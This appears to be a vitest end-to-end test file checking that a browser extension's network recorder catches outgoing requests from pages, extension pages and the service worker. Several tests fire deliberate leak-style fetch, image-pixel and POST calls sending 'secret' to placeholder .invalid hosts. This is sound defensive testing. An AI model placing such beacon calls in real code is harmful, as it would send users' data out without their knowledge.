import { describe, expect, it } from 'vitest';
import type { BrowserName } from '../../scripts/lib/browsers';
import { browserOwn, networkRecorder } from '../../scripts/lib/network-recorder';
import { openControl } from './extension-control';
import { extensionSession } from './session';
import { sleep } from './wait';

/**
 * The check that nothing leaves (tests/e2e/no-network.setup.ts, after every e2e test) is only worth
 * something if a request that does leave is seen. Here requests are made on purpose — by a page, by
 * an extension page and, in Chromium, by the service worker — and each must be in the recorder's log.
 */
describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s', (browserName) => {
  const s = extensionSession(browserName, 'tests/fixtures', 'demo-en.html');

  const leaked = async (want: string[]) => {
    const recorder = await networkRecorder();
    const seen: string[] = [];
    for (let i = 0; i < 50 && !want.every((w) => seen.some((s) => s.includes(w))); i++) {
      await sleep(100);
      seen.push(...recorder.take().map((r) => r.request).filter((r) => !browserOwn(r)));
    }
    return seen;
  };

  it('sees a page that reaches out, over HTTP and HTTPS', async () => {
    await s.page.evaluate(() => {
      void fetch('https://page-leak.invalid/secret').catch(() => undefined);
      new Image().src = 'http://page-leak.invalid/pixel.png?text=secret';
    });
    const seen = await leaked(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']);
    expect(seen).toEqual(expect.arrayContaining(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']));
  });

  it('sees an extension page that reaches out', async () => {
    const control = await openControl(s.browser, s.server.url(''));
    await control.page.evaluate(() => {
      void fetch('http://extension-leak.invalid/report', { method: 'POST', body: 'secret' }).catch(() => undefined);
    });
    expect(await leaked(['POST http://extension-leak.invalid/report'])).toContain('POST http://extension-leak.invalid/report');
  });

  // Firefox runs the background as an event page, which a test cannot reach into.
  if (browserName === 'chromium')
    it('sees the service worker reach out', async () => {
      await s.browser.inBackground!(() => void fetch('https://worker-leak.invalid/').catch(() => undefined));
      expect(await leaked(['CONNECT worker-leak.invalid:443'])).toContain('CONNECT worker-leak.invalid:443');
    });
});
